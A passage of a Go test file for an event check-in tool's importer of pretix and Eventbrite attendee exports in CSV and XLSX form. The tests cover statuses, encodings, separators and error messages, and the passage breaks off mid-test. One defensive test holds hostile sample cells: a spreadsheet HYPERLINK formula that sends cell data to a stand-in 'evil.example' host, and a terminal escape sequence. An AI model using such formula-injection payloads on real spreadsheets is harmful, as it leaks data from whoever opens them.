package roster_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"reflect"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/charmap"

	"usher/checkin"
	"usher/demo"
	"usher/roster"
)

// The files under testdata/exports are written as pretix and Eventbrite
// write them: their headings, their quoting, their empty cells. Each test
// states for every row who is admitted, who is refused and why, and what
// the read tells the organizer (Result's counters).

const xlsxName = "roster.xlsx"

// MustConferenceEvent returns an event whose categories are a pretix
// event's products: a ticket with two variations, an add-on workshop and
// a volunteer pass that asks for no name. The aliases are spelled as
// pretix writes the products, "Item – Variation" with an en dash.
func MustConferenceEvent(tb testing.TB) *checkin.Event {
	tb.Helper()
	ev := &checkin.Event{
		ID:     "conf",
		Spaces: []checkin.Space{{ID: "venue", Capacity: 800}, {ID: "lab", Parent: "venue", Capacity: 40}},
		Doors: []checkin.Door{
			{ID: "entrance", From: checkin.Outside, To: "venue"},
			{ID: "lab-door", From: "venue", To: "lab"},
		},
		Categories: []checkin.Category{
			{ID: "attendee", Name: "Attendee", MayEnter: []string{"venue"},
				Aliases: []string{"Conference Ticket – Regular", "Conference Ticket – Student"}},
			{ID: "speaker", Name: "Speaker", MayEnter: []string{"venue", "lab"}},
			{ID: "volunteer", Name: "Volunteer", MayEnter: []string{"venue"}, Aliases: []string{"Volunteer Pass"}},
			{ID: "workshop", Name: "Workshop", MayEnter: []string{"lab"}, Aliases: []string{"Workshop: Go Fuzzing"}},
		},
	}
	if err := ev.Validate(); err != nil {
		tb.Fatalf("conference event: %v", err)
	}
	return ev
}

// wantResult is what a read must return: the people in file order and
// every counter of the Result.
type wantResult struct {
	format   roster.Format
	sep      rune
	warning  string
	nameless int
	pending  int
	excluded map[string]int
	people   []checkin.Person
}

func checkResult(tb testing.TB, got *roster.Result, want wantResult) {
	tb.Helper()
	if got.Format != want.format {
		tb.Errorf("Format = %q, want %q", got.Format, want.format)
	}
	if got.Sep != want.sep {
		tb.Errorf("Sep = %q, want %q", got.Sep, want.sep)
	}
	if got.Warning != want.warning {
		tb.Errorf("Warning = %q, want %q", got.Warning, want.warning)
	}
	if got.Nameless != want.nameless {
		tb.Errorf("Nameless = %d, want %d", got.Nameless, want.nameless)
	}
	if got.Pending != want.pending {
		tb.Errorf("Pending = %d, want %d", got.Pending, want.pending)
	}
	if !maps.Equal(got.Excluded, want.excluded) {
		tb.Errorf("Excluded = %v, want %v", got.Excluded, want.excluded)
	}
	if len(got.People) != len(want.people) {
		tb.Errorf("read %d people, want %d:\n%+v", len(got.People), len(want.people), got.People)
		return
	}
	for i := range want.people {
		if !reflect.DeepEqual(got.People[i], want.people[i]) {
			tb.Errorf("person %d:\n got %+v\nwant %+v", i, got.People[i], want.people[i])
		}
	}
}

func mustParse(tb testing.TB, data []byte, name string, ev *checkin.Event, opt roster.Options) *roster.Result {
	tb.Helper()
	res, err := roster.Parse(bytes.NewReader(data), name, ev, opt)
	if err != nil {
		tb.Fatalf("Parse: %v", err)
	}
	return res
}

// checkRefused checks that err refuses the file (EINVALID) with a message
// holding each of parts.
func checkRefused(tb testing.TB, res *roster.Result, err error, parts ...string) {
	tb.Helper()
	if err == nil {
		tb.Fatalf("Parse read %d people; want an error containing %q", len(res.People), parts)
	}
	if code := checkin.ErrorCode(err); code != checkin.EINVALID {
		tb.Fatalf("error %v has code %q, want %q", err, code, checkin.EINVALID)
	}
	for _, p := range parts {
		if !strings.Contains(checkin.ErrorMessage(err), p) {
			tb.Errorf("error %q does not contain %q", checkin.ErrorMessage(err), p)
		}
	}
	if res != nil {
		tb.Errorf("Parse returned a result with its error")
	}
}

func mustReadExport(tb testing.TB, file string) []byte {
	tb.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", "exports", file))
	if err != nil {
		tb.Fatal(err)
	}
	return data
}

// The people of testdata/exports/pretix-checkin-list*.csv. A check-in
// list export has no position id: the secret is the id.
var (
	pretixAda = checkin.Person{ID: "k4m9c8v3b6t1z5w0y2r8e4u6a9sn7q2x", Name: "Dr. Ada Lovelace", Category: "attendee",
		Code: "k4m9c8v3b6t1z5w0y2r8e4u6a9sn7q2x", Email: "ada@example.org", Company: "Analytical Engines"}
	// An add-on carries its parent's name.
	pretixAdaWorkshop = checkin.Person{ID: "p3r5t6v1w0y8e2u4a6s9d1f3g5h7j9kx", Name: "Dr. Ada Lovelace", Category: "workshop",
		Code: "p3r5t6v1w0y8e2u4a6s9d1f3g5h7j9kx", Email: "ada@example.org", Company: "Analytical Engines"}
	pretixGrace = checkin.Person{ID: "z8x6c4v2b0n1m3q5w7e9r2t4y6u8i0op", Name: "Grace Hopper", Category: "attendee",
		Code: "z8x6c4v2b0n1m3q5w7e9r2t4y6u8i0op", Email: "grace@example.org"}
	pretixVolunteer = checkin.Person{ID: "a1s2d3f4g5h6j7k8l9z0x1c2v3b4n5m6", Name: "(no name) · Volunteer · order GHI56",
		Category: "volunteer", Code: "a1s2d3f4g5h6j7k8l9z0x1c2v3b4n5m6", Email: "crew@example.org"}
	pretixSophie = checkin.Person{ID: "q9w8e7r6t5y4u3i2o1p0a9s8d7f6g5h4", Name: "Sophie Wilson", Category: "speaker",
		Code: "q9w8e7r6t5y4u3i2o1p0a9s8d7f6g5h4", Email: "sophie@example.org", Company: "Acorn Computers"}
	pretixVolunteer2 = checkin.Person{ID: "m6n5b4v3c2x1z0l9k8j7h6g5f4d3s2a1", Name: "(no name) · Volunteer · order JKL78",
		Category: "volunteer", Code: "m6n5b4v3c2x1z0l9k8j7h6g5f4d3s2a1", Email: "crew@example.org"}
)

// revoked returns p with its ticket made invalid for why.
func revoked(p checkin.Person, why string) checkin.Person {
	p.Revoked = why
	return p
}

// pretixCheckinList is the check-in list export without pending orders:
// everyone is admitted, the volunteer under a stand-in name.
var pretixCheckinList = wantResult{
	format: roster.Pretix, sep: ',', nameless: 1, excluded: map[string]int{},
	people: []checkin.Person{pretixAda, pretixAdaWorkshop, pretixGrace, pretixVolunteer, pretixSophie},
}

func TestPretixCheckinList(t *testing.T) {
	res := mustParse(t, mustReadExport(t, "pretix-checkin-list.csv"), fileName, MustConferenceEvent(t), roster.Options{})
	checkResult(t, res, pretixCheckinList)
}

// A check-in list that includes pending orders has a Paid column: their
// people are refused at the door unless the organizer admits them.
func TestPretixCheckinListPaid(t *testing.T) {
	for _, tc := range []struct {
		name string
		opt  roster.Options
		want wantResult
	}{
		{"Unpaid", roster.Options{}, wantResult{
			format: roster.Pretix, sep: ',', nameless: 2, excluded: map[string]int{"Paid: No": 2},
			people: []checkin.Person{pretixAda, pretixAdaWorkshop, revoked(pretixGrace, "unpaid order"), pretixVolunteer,
				revoked(pretixVolunteer2, "unpaid order")},
		}},
		{"IncludePending", roster.Options{IncludePending: true}, wantResult{
			format: roster.Pretix, sep: ',', nameless: 2, pending: 2, excluded: map[string]int{},
			people: []checkin.Person{pretixAda, pretixAdaWorkshop, pretixGrace, pretixVolunteer, pretixVolunteer2},
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res := mustParse(t, mustReadExport(t, "pretix-checkin-list-paid.csv"), fileName, MustConferenceEvent(t), tc.opt)
			checkResult(t, res, tc.want)
		})
	}
}

// pretixExcelEurope is a check-in list as Excel saves it in Germany after
// opening pretix's file: `;` between fields, decimal commas, no quotes,
// and Windows-1252 ("CSV (Trennzeichen-getrennt)"), not UTF-8.
const pretixExcelEurope = "Order code;Attendee name;Product;Price;Checked in;Secret;E-mail;Company\r\n" +
	"MNO90;Jürgen Müller;Conference Ticket – Regular;250,00;;s5d6f7g8h9j0k1l2z3x4c5v6b7n8m9q0;juergen@example.de;Müller & Söhne GmbH\r\n" +
	"MNO90;Zoë Faßbender;Conference Ticket – Student;90,00;;w1e2r3t4y5u6i7o8p9a0s1d2f3g4h5j6;;Café Crème\r\n" +
	"PQR12;Ørjan Œhlenschläger;Speaker;0,00;;x0c9v8b7n6m5l4k3j2h1g0f9d8s7a6q5;orjan@example.no;„Bücher“ AG €\r\n"

func TestPretixSemicolonsWindows1252(t *testing.T) {
	data, err := charmap.Windows1252.NewEncoder().Bytes([]byte(pretixExcelEurope))
	if err != nil {
		t.Fatal(err)
	}
	if utf8.Valid(data) {
		t.Fatal("the file must not be UTF-8")
	}
	res := mustParse(t, data, fileName, MustConferenceEvent(t), roster.Options{})
	checkResult(t, res, wantResult{
		format: roster.Pretix, sep: ';', warning: fileName + " is not UTF-8: read as Windows-1252", excluded: map[string]int{},
		people: []checkin.Person{
			{ID: "s5d6f7g8h9j0k1l2z3x4c5v6b7n8m9q0", Name: "Jürgen Müller", Category: "attendee",
				Code: "s5d6f7g8h9j0k1l2z3x4c5v6b7n8m9q0", Email: "juergen@example.de", Company: "Müller & Söhne GmbH"},
			{ID: "w1e2r3t4y5u6i7o8p9a0s1d2f3g4h5j6", Name: "Zoë Faßbender", Category: "attendee",
				Code: "w1e2r3t4y5u6i7o8p9a0s1d2f3g4h5j6", Company: "Café Crème"},
			{ID: "x0c9v8b7n6m5l4k3j2h1g0f9d8s7a6q5", Name: "Ørjan Œhlenschläger", Category: "speaker",
				Code: "x0c9v8b7n6m5l4k3j2h1g0f9d8s7a6q5", Email: "orjan@example.no", Company: "„Bücher“ AG €"},
		},
	})
	if notes := res.Notes(); !slices.Contains(notes, "fields separated by semicolons") {
		t.Errorf("Notes %q do not say the fields are separated by semicolons", notes)
	}
}

// ebHeader is the heading line of Eventbrite's attendee summary report.
const ebHeader = "Order #,Order Date,First Name,Last Name,Email,Quantity,Ticket Type,Attendee #,Barcode #,Order Type," +
	"Total Paid,Eventbrite Fees,Eventbrite Payment Processing,Attendee Status,Company,Job Title"

// ebRow is one attendee of that report, bought on order.
func ebRow(order, first, last, ticket, attendee, barcode, status string) string {
	return fmt.Sprintf("%s,\"Mar 14, 2025 10:22 AM\",%s,%s,,1,%s,%s,%s,Eventbrite Completed,250.00,12.49,7.55,%s,,",
		order, first, last, ticket, attendee, barcode, status)
}

// ebPerson is the person an ebRow reads as.
func ebPerson(name, category, attendee, barcode, email, company string) checkin.Person {
	return checkin.Person{ID: attendee, Name: name, Category: category, Code: barcode, Email: email, Company: company}
}

func TestEventbriteAttendeeSummary(t *testing.T) {
	res := mustParse(t, mustReadExport(t, "eventbrite-attendee-summary.csv"), fileName, demo.Event(), roster.Options{})
	checkResult(t, res, wantResult{
		format: roster.Eventbrite, sep: ',', nameless: 1,
		excluded: map[string]int{
			"Attendee Status: Not Attending": 1, "Attendee Status: Refunded": 1, "Attendee Status: Cancelled": 1,
			"Attendee Status: Transferred": 1, "Attendee Status: Deleted": 1,
		},
		people: []checkin.Person{
			ebPerson("Ada Lovelace", "attendee", "1234567890101", "7654321001123456789010100", "ada@example.org", "Analytical Engines"),
			ebPerson("Grace Hopper", "speaker", "1234567890102", "7654321002123456789010200", "grace@example.org", "US Navy"),
			ebPerson("Alan Turing", "exhibitor", "1234567890103", "7654321003123456789010300", "alan@example.org", ""),
			revoked(ebPerson("Barbara Liskov", "attendee", "1234567890104", "7654321004123456789010400", "barbara@example.org", "MIT"),
				"not attending"),
			revoked(ebPerson("Dennis Ritchie", "attendee", "1234567890105", "7654321005123456789010500", "dennis@example.org", "Bell Labs"),
				"refunded ticket"),
			revoked(ebPerson("Edsger Dijkstra", "sponsor", "1234567890106", "7654321006123456789010600", "edsger@example.org", ""),
				"cancelled ticket"),
			revoked(ebPerson("Frances Allen", "sponsor-comp", "1234567890107", "7654321007123456789010700", "frances@example.org", "IBM"),
				"transferred ticket"),
			revoked(ebPerson("Guido van Rossum", "press", "1234567890108", "7654321008123456789010800", "guido@example.org", ""),
				"deleted ticket"),
			ebPerson("Cher", "volunteer", "1234567890109", "7654321009123456789010900", "cher@example.org", ""),
			ebPerson("(no name) · Volunteer · order 7654321009", "volunteer", "1234567890110", "7654321009123456789011000",
				"cher@example.org", ""),
		},
	})
}

// A status Usher does not know is refused, never guessed, with the line,
// the column and the values it knows.
func TestEventbriteUnknownStatus(t *testing.T) {
	for _, tc := range []struct{ name, status, quoted string }{
		{"Waitlisted", "Waitlisted", `"Waitlisted"`},
		{"Empty", "", `""`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			data := ebHeader + "\n" +
				ebRow("7654321001", "Ada", "Lovelace", "General Admission", "1234567890101", "7654321001001", "Attending") + "\n" +
				ebRow("7654321002", "Grace", "Hopper", "Speaker", "1234567890102", "7654321002001", tc.status) + "\n"
			res, err := roster.Parse(strings.NewReader(data), fileName, demo.Event(), roster.Options{})
			checkRefused(t, res, err, fileName+":3, column 14 (Attendee Status): ", "status "+tc.quoted,
				"known: attending, canceled, cancelled, checked in, checked out, deleted, not attending, refunded, transferred")
		})
	}
}

// statusCase is one value of a status column and what it makes of a
// ticket: valid (reason ""), or refused for reason; pending tickets are
// valid with Options.IncludePending.
type statusCase struct {
	format           roster.Format
	heading, value   string
	reason           string
	pending          bool
	header, rowStart string // a one-person file; the status is its last cell
	ev               func(testing.TB) *checkin.Event
}

var (
	ebStatus = statusCase{format: roster.Eventbrite, heading: "Attendee Status",
		header: "Attendee #,First Name,Last Name,Ticket Type,Barcode #", rowStart: "1234567890101,Ada,Lovelace,General Admission,7654321001001",
		ev: func(testing.TB) *checkin.Event { return demo.Event() }}
	pretixStatus = statusCase{format: roster.Pretix, heading: "Status",
		header: "Order code,Position ID,Attendee name,Product,Secret", rowStart: "ABC12,1,Ada Lovelace,Conference Ticket – Regular,k4m9c8v3",
		ev: MustConferenceEvent}
	pretixPaid = statusCase{format: roster.Pretix, heading: "Paid",
		header: "Order code,Attendee name,Product,Secret", rowStart: "ABC12,Ada Lovelace,Conference Ticket – Regular,k4m9c8v3",
		ev: MustConferenceEvent}
)

func withStatus(c statusCase, value, reason string, pending bool) statusCase {
	c.value, c.reason, c.pending = value, reason, pending
	return c
}

// statusCases hold every status value of every format, as the exports
// and pretix's API write them.
var statusCases = []statusCase{
	withStatus(ebStatus, "Attending", "", false),
	withStatus(ebStatus, "Checked In", "", false),
	withStatus(ebStatus, "Checked Out", "", false),
	withStatus(ebStatus, "Not Attending", "not attending", false),
	withStatus(ebStatus, "Refunded", "refunded ticket", false),
	withStatus(ebStatus, "Cancelled", "cancelled ticket", false),
	withStatus(ebStatus, "Canceled", "cancelled ticket", false),
	withStatus(ebStatus, "Transferred", "transferred ticket", false),
	withStatus(ebStatus, "Deleted", "deleted ticket", false),
	withStatus(pretixStatus, "paid", "", false),
	withStatus(pretixStatus, "pending", "unpaid order", true),
	withStatus(pretixStatus, "expired", "expired order", false),
	withStatus(pretixStatus, "blocked", "blocked ticket", false),
	withStatus(pretixStatus, "canceled", "cancelled order", false),
	withStatus(pretixStatus, "cancelled", "cancelled order", false),
	withStatus(pretixPaid, "Yes", "", false),
	withStatus(pretixPaid, "No", "unpaid order", true),
}

func (c statusCase) csv() string {
	return c.header + "," + c.heading + "\n" + c.rowStart + "," + c.value + "\n"
}

func TestStatuses(t *testing.T) {
	for _, c := range statusCases {
		for _, include := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/%s/%s/IncludePending=%v", c.format, c.heading, c.value, include), func(t *testing.T) {
				res := mustParse(t, []byte(c.csv()), fileName, c.ev(t), roster.Options{IncludePending: include})
				p := res.People[0]
				wantReason, wantExcluded, wantPending := c.reason, map[string]int{}, 0
				if c.pending && include {
					wantReason, wantPending = "", 1
				} else if c.reason != "" {
					wantExcluded[c.heading+": "+c.value] = 1
				}
				if p.Revoked != wantReason {
					t.Errorf("Revoked = %q, want %q", p.Revoked, wantReason)
				}
				if !maps.Equal(res.Excluded, wantExcluded) || res.Pending != wantPending {
					t.Errorf("Excluded %v, Pending %d; want %v, %d", res.Excluded, res.Pending, wantExcluded, wantPending)
				}
			})
		}
	}
}

// TestEveryStatusHasACase fails when a status value is added to a format
// without a case in statusCases: the values a refusal lists as known
// must be those the cases cover.
func TestEveryStatusHasACase(t *testing.T) {
	for _, base := range []statusCase{ebStatus, pretixStatus, pretixPaid} {
		t.Run(string(base.format)+"/"+base.heading, func(t *testing.T) {
			_, err := roster.Parse(strings.NewReader(withStatus(base, "no such status", "", false).csv()), fileName, base.ev(t), roster.Options{})
			msg := checkin.ErrorMessage(err)
			_, known, ok := strings.Cut(msg, "(known: ")
			if !ok {
				t.Fatalf("the refusal lists no known values: %q", msg)
			}
			listed := strings.Split(strings.TrimSuffix(known, ")"), ", ")
			var covered []string
			for _, c := range statusCases {
				if c.format == base.format && c.heading == base.heading {
					covered = append(covered, strings.ToLower(c.value))
				}
			}
			slices.Sort(listed)
			slices.Sort(covered)
			if !slices.Equal(listed, covered) {
				t.Errorf("known values %q, cases cover %q", listed, covered)
			}
		})
	}
}

// Eventbrite's report exported as tab-separated text, with Excel's "sep="
// line, and with a byte order mark.
func TestCSVDialects(t *testing.T) {
	ada := ebPerson("Ada Lovelace", "attendee", "1234567890101", "7654321001001", "", "")
	aeneas := ebPerson("Äneas Öztürk", "speaker", "1234567890102", "7654321002001", "", "")
	rows := []string{
		ebRow("7654321001", "Ada", "Lovelace", "General Admission", "1234567890101", "7654321001001", "Attending"),
		ebRow("7654321002", "Äneas", "Öztürk", "Speaker", "1234567890102", "7654321002001", "Checked In"),
	}
	comma := ebHeader + "\n" + strings.Join(rows, "\n") + "\n"
	// Semicolons where a comma only separated fields (the date keeps its
	// quotes and its comma).
	semicolons := strings.NewReplacer(",\"Mar 14, 2025 10:22 AM\",", ";\"Mar 14, 2025 10:22 AM\";", ",", ";").Replace(comma)
	tabs := strings.NewReplacer(",\"Mar 14, 2025 10:22 AM\",", "\tMar 14, 2025 10:22 AM\t", ",", "\t").Replace(comma)
	want := func(sep rune) wantResult {
		return wantResult{format: roster.Eventbrite, sep: sep, excluded: map[string]int{}, people: []checkin.Person{ada, aeneas}}
	}
	for _, tc := range []struct {
		name string
		data string
		want wantResult
	}{
		{"Tabs", tabs, want('\t')},
		{"Semicolons", semicolons, want(';')},
		{"SepLineSemicolon", "sep=;\r\n" + strings.ReplaceAll(semicolons, "\n", "\r\n"), want(';')},
		{"SepLineComma", "sep=,\n" + comma, want(',')},
		{"SepLineTab", "sep=\t\n" + tabs, want('\t')},
		{"ByteOrderMark", "\ufeff" + comma, want(',')},
		{"ByteOrderMarkSepLine", "\ufeffsep=;\n" + semicolons, want(';')},
	} {
		t.Run(tc.name, func(t *testing.T) {
			checkResult(t, mustParse(t, []byte(tc.data), fileName, demo.Event(), roster.Options{}), tc.want)
		})
	}
}

// The "sep=" line is line 1 of the file, as an editor numbers it, so
// every message counts it: the header is line 2.
func TestSepLineNumbers(t *testing.T) {
	for _, tc := range []struct {
		name string
		data string
		want []string
	}{
		{"Row", "sep=;\nid;name;category;code\nP1;Ada Lovelace;attendee;U-AAAA1111\nP2;Grace Hopper;wizard;U-BBBB2222\n",
			[]string{fileName + ":4, column 3 (category): ", `"wizard"`}},
		{"RowAfterQuotedLineBreak", "sep=;\nid;name;category;code\nP1;\"Ada\nLovelace\";attendee;U-AAAA1111\n" +
			"P2;Grace Hopper;wizard;U-BBBB2222\n",
			[]string{fileName + ":3, column 2 (name): ", "U+000A", fileName + ":5, column 3 (category): "}},
		{"BareQuote", "sep=;\nid;name;category;code\nP1;Ada \"Countess\" Lovelace;attendee;U-AAAA1111\n",
			[]string{fileName + ":3, column 2", "quote"}},
		{"Header", "sep=;\nwho;what\nAda;attendee\n", []string{fileName + ":2: ", "not a roster Usher knows"}},
		{"HeaderAfterBlankLine", "sep=;\n\nwho;what\nAda;attendee\n", []string{fileName + ":3: ", "not a roster Usher knows"}},
		{"HeadingTwice", "sep=;\nid;name;category;code;ID\nP1;Ada Lovelace;attendee;U-AAAA1111;P1\n",
			[]string{fileName + ":2, column 5: ", `"ID"`}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res, err := roster.Parse(strings.NewReader(tc.data), fileName, demo.Event(), roster.Options{})
			checkRefused(t, res, err, tc.want...)
		})
	}
}

// pretix's order positions export has no secret: its people could not
// be checked in, so it is refused, not read with made-up codes, and the
// message names the export to use.
func TestPretixOrderPositionsRefused(t *testing.T) {
	res, err := roster.Parse(bytes.NewReader(mustReadExport(t, "pretix-order-positions.csv")), fileName,
		MustConferenceEvent(t), roster.Options{})
	checkRefused(t, res, err, fileName+":1: ", "pretix export has no Secret column", "Check-in list")
}

// pretix lists "Name" as well as "Attendee name" for the name column.
func TestPretixNameHeading(t *testing.T) {
	data := "Order code,Name,Product,Secret\nABC12,Ada Lovelace,Conference Ticket – Regular,k4m9c8v3\n"
	res := mustParse(t, []byte(data), fileName, MustConferenceEvent(t), roster.Options{})
	checkResult(t, res, wantResult{format: roster.Pretix, sep: ',', excluded: map[string]int{},
		people: []checkin.Person{{ID: "k4m9c8v3", Name: "Ada Lovelace", Category: "attendee", Code: "k4m9c8v3"}}})
}

// xlsxSheet is a sheet to build: rows of cells, a nil cell left out of
// the file as a spreadsheet leaves out an empty one.
type xlsxSheet struct {
	name string
	rows [][]any
}

func mustXLSX(tb testing.TB, sheets ...xlsxSheet) []byte {
	tb.Helper()
	f := excelize.NewFile()
	defer f.Close()
	for i, s := range sheets {
		var err error
		if i == 0 {
			err = f.SetSheetName("Sheet1", s.name)
		} else {
			_, err = f.NewSheet(s.name)
		}
		if err != nil {
			tb.Fatal(err)
		}
		for r, row := range s.rows {
			for c, v := range row {
				if v == nil {
					continue
				}
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if err := f.SetCellValue(s.name, cell, v); err != nil {
					tb.Fatal(err)
				}
			}
		}
	}
	buf, err := f.WriteToBuffer()
	if err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes()
}

// csvSheet is a CSV export as the same export's workbook holds it, with
// the Price column as numbers.
func csvSheet(tb testing.TB, name string, data []byte) xlsxSheet {
	tb.Helper()
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		tb.Fatal(err)
	}
	s := xlsxSheet{name: name}
	for r, rec := range recs {
		row := make([]any, len(rec))
		for c, v := range rec {
			row[c] = v
			if n, err := strconv.ParseFloat(v, 64); err == nil && r > 0 && recs[0][c] == "Price" {
				row[c] = n
			}
		}
		s.rows = append(s.rows, row)
	}
	return s
}

var ebXLSXHeader = []any{"Order #", "Order Date", "First Name", "Last Name", "Email", "Quantity", "Ticket Type", "Attendee #",
	"Barcode #", "Order Type", "Total Paid", "Eventbrite Fees", "Eventbrite Payment Processing", "Attendee Status", "Company", "Job Title"}

// ebXLSXRow is an attendee as Eventbrite's workbook holds one: numbers
// in numeric cells, the barcode (longer than a number's 15 sure digits)
// as text, Company and Job Title left out when empty.
func ebXLSXRow(order int64, first, last, ticket string, attendee, barcode int64, status string) []any {
	date := time.Date(2025, 3, 14, 10, 22, 0, 0, time.UTC)
	return []any{order, date, first, last, nil, 1, ticket, attendee, strconv.FormatInt(barcode, 10), "Eventbrite Completed", 250.0, 12.49, 7.55, status}
}

var ebXLSXRows = [][]any{
	ebXLSXHeader,
	ebXLSXRow(7654321001, "Ada", "Lovelace", "General Admission", 1234567890123, 7654321001123456789, "Attending"),
	ebXLSXRow(7654321002, "Grace", "Hopper", "Speaker", 1234567890124, 7654321002123456789, "Refunded"),
	append(ebXLSXRow(7654321003, "Alan", "Turing", "Press", 1234567890125, 7654321003123456789, "Checked In"),
		"Bletchley Park", "Cryptanalyst"),
}

var ebXLSXWant = wantResult{
	format: roster.Eventbrite, excluded: map[string]int{"Attendee Status: Refunded": 1},
	people: []checkin.Person{
		ebPerson("Ada Lovelace", "attendee", "1234567890123", "7654321001123456789", "", ""),
		revoked(ebPerson("Grace Hopper", "speaker", "1234567890124", "7654321002123456789", "", ""), "refunded ticket"),
		ebPerson("Alan Turing", "press", "1234567890125", "7654321003123456789", "", "Bletchley Park"),
	},
}

func TestXLSX(t *testing.T) {
	summary := xlsxSheet{"Summary", [][]any{{"Event", "Demo Conference"}, {"Attendees", 3}}}
	attendees := xlsxSheet{"Attendees", ebXLSXRows}
	pretixCSV := mustReadExport(t, "pretix-checkin-list.csv")
	pretixWant := pretixCheckinList
	pretixWant.sep = 0
	for _, tc := range []struct {
		name string
		data []byte
		ev   *checkin.Event
		opt  roster.Options
		want wantResult
	}{
		{"Pretix", mustXLSX(t, csvSheet(t, "Check-in list", pretixCSV)), MustConferenceEvent(t), roster.Options{}, pretixWant},
		{"EventbriteNumbersAndShortRows", mustXLSX(t, attendees), demo.Event(), roster.Options{}, ebXLSXWant},
		{"SecondSheet", mustXLSX(t, summary, attendees), demo.Event(), roster.Options{Sheet: "Attendees"}, ebXLSXWant},
	} {
		t.Run(tc.name, func(t *testing.T) {
			checkResult(t, mustParse(t, tc.data, xlsxName, tc.ev, tc.opt), tc.want)
		})
	}
}

// The rows of ebXLSXRows without Company are shorter than the header in
// the file itself, so reading them takes the padding path.
func TestXLSXRowsLeaveOutTrailingCells(t *testing.T) {
	f, err := excelize.OpenReader(bytes.NewReader(mustXLSX(t, xlsxSheet{"Attendees", ebXLSXRows})))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Attendees")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows[1]) >= len(rows[0]) {
		t.Errorf("row 2 has %d cells, the header %d: the fixture must leave trailing cells out", len(rows[1]), len(rows[0]))
	}
}

func TestXLSXRefused(t *testing.T) {
	summary := xlsxSheet{"Summary", [][]any{{"Event", "Demo Conference"}, {"Attendees", 3}}}
	attendees := xlsxSheet{"Attendees", ebXLSXRows}
	bad := func(row []any) xlsxSheet {
		return xlsxSheet{"Attendees", [][]any{ebXLSXHeader, ebXLSXRows[1], row}}
	}
	xls := append([]byte{0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1}, make([]byte, 504)...)
	csvData := []byte(ebHeader + "\n" + ebRow("7654321001", "Ada", "Lovelace", "General Admission", "1234567890101", "7654321001001", "Attending") + "\n")
	for _, tc := range []struct {
		name string
		data []byte
		opt  roster.Options
		want []string
	}{
		{"UnknownTicketType", mustXLSX(t, bad(ebXLSXRow(7654321002, "Grace", "Hopper", "Wizard Pass", 1234567890124, 7654321002123456789, "Attending"))),
			roster.Options{}, []string{xlsxName + ":3, column G (Ticket Type): ", `"Wizard Pass"`}},
		{"UnknownStatus", mustXLSX(t, bad(ebXLSXRow(7654321002, "Grace", "Hopper", "Speaker", 1234567890124, 7654321002123456789, "Waitlisted"))),
			roster.Options{}, []string{xlsxName + ":3, column N (Attendee Status): ", `"Waitlisted"`, "known: "}},
		{"SheetNamedInMessages", mustXLSX(t, summary, bad(ebXLSXRow(7654321002, "Grace", "Hopper", "Wizard Pass", 1234567890124, 7654321002123456789, "Attending"))),
			roster.Options{Sheet: "Attendees"}, []string{xlsxName + " (sheet Attendees):3, column G (Ticket Type): "}},
		{"FirstSheetIsNotARoster", mustXLSX(t, summary, attendees), roster.Options{},
			[]string{xlsxName + " (sheet Summary):1: ", "not a roster Usher knows"}},
		{"UnknownSheet", mustXLSX(t, summary, attendees), roster.Options{Sheet: "Attendes"},
			[]string{xlsxName + ": ", `no sheet "Attendes"`, "(sheets: Summary, Attendees)"}},
		{"OldXLS", xls, roster.Options{}, []string{xlsxName + ": ", ".xls", "save it as .xlsx or as CSV"}},
		{"SheetOnCSV", csvData, roster.Options{Sheet: "Attendees"}, []string{fileName + ": ", `--sheet "Attendees"`, "XLSX"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			name := xlsxName
			if tc.name == "SheetOnCSV" {
				name = fileName
			}
			res, err := roster.Parse(bytes.NewReader(tc.data), name, demo.Event(), tc.opt)
			checkRefused(t, res, err, tc.want...)
		})
	}
}

// Cells written to harm whoever reads the roster: a control character
// is refused where the kiosk would show it; a formula is only text.
func TestHostileCells(t *testing.T) {
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"Ada")`
	t.Run("ControlCharacterInStatus", func(t *testing.T) {
		data := ebHeader + "\n" + ebRow("7654321001", "Ada", "Lovelace", "General Admission", "1234567890101", "7654321001001", "Attending\x1b[2J") + "\n"
		res, err := roster.Parse(strings.NewReader(data), fileName, demo.Event(), roster.Options{})
		checkRefused(t, res, err, fileName+":2, column 14 (Attendee Status): ", "control character U+001B")
	})
	t.Run("FormulaNameCSV", func(t *testing.T) {
		data := ebHeader + "\n" + ebRow("7654321001", `"`+strings.ReplaceAll(formula, `"`, `""`)+`"`, "", "General Admission",
			"1234567890101", "7654321001001", "Attending") + "\n"
		res := mustParse(t, []byte(data), fileName, demo.Event(), roster.Options{})
		checkResult(t, res, wantResult{format: roster.Eventbrite, sep: ',', excluded: map[string]int{},
			people: []checkin.Person{ebPerson(formula, "attendee", "1234567890101", "7654321001001", "", "")}})
	})
	t.Run("FormulaNameXLSX", func(t *testing.T) {
		data := mustXLSX(t, xlsxSheet{"Attendees", [][]any{ebXLSXHeader,
			ebXLSXRow(7654321001, formula, "", "General Admission", 1234567890123, 7654321001123456789, "Attending")}})
		res := mustParse(t, data, xlsxName, demo.Event(), roster.Options{})
		checkResult(t, res, wantResult{format: roster.Eventbrite, excluded: map[string]int{},
			people: []checkin.Person{ebPerson(formula, "attendee", "1234567890123", "7654321001123456789", "", "")}})
	})
}

// A file with a hundred thousand columns is read, or refused, without
// falling over.
func TestManyColumns(t *testing.T) {
	const extra = 100_000
	var header, row strings.Builder
	header.WriteString("id,name,category,code")
	row.WriteString("P1,Ada Lovelace,attendee,U-AAAA1111")
	for i := range extra {
		fmt.Fprintf(&header, ",q%d", i)
		row.WriteString(",x")
	}
	t.Run("Read", func(t *testing.T) {
		res := mustParse(t, []byte(header.String()+"\n"+row.String()+"\n"), fileName, demo.Event(), roster.Options{})
